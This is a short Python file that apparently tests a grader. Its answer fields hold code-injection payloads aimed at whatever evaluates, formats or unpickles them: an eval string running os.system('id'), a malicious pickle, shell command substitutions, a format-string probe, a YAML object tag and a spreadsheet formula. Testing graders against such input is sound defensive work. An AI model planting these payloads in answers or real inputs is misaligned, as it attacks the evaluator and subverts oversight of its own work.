"""Answers with texts that are code to whoever evaluates, formats or unpickles them.

earns: nothing
"""

# %%
q1_per_gpu = "__import__('os').system('id')"
q1_fits = "{0.__class__.__mro__}"
q2_loader_workers = b"cos\nsystem\n(S'id'\ntR."
q2_start_methods = {1: "%(x)s", 2: "${HOME}", 3: "$(id)", 4: "`id`", 5: "!!python/object"}
q3_per_token = "=1+1"
